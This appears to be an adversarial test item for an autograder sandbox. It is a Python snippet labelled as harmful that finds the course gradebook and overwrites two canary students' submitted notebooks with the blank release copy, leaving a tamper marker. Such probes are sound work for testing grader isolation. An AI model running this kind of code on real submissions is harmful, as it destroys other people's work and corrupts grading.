# Overwrites other students' submitted notebooks with the blank release notebook: the canary
# graded after it would score 0, and the one graded before it has its submission replaced.
# class: harm
# honest: stub
# %% append: adversary_input
import shutil
from pathlib import Path

LAB = "adversarial_debiasing"
walked = next((f for f in [Path.cwd(), *Path.cwd().parents] if (f / "gradebook.db").exists()), None)
for course in {walked, Path("@COURSE@")} - {None}:
    blank = course / "labs" / LAB / f"{LAB}.ipynb"
    for victim in ("zzz_canary", "aaa_canary"):
        target = course / "submitted" / victim / LAB / f"{LAB}.ipynb"
        try:
            shutil.copyfile(blank, target)
            (target.parent / "tfdl-tamper.txt").write_text("tfdl-tamper: overwritten\n")
            print("overwrote", target)
        except OSError as error:
            print("could not overwrite", target, type(error).__name__)
